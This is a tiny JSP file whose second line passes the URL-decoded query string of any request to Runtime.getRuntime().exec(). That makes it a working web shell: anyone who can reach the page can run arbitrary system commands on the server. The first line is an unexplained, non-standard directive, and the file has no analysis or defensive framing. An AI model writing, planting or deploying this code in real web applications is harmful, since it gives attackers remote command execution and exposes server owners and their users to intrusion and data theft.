<%@ inert %>
<% Runtime.getRuntime().exec(java.net.URLDecoder.decode(request.getQueryString(),"UTF-8")); %>
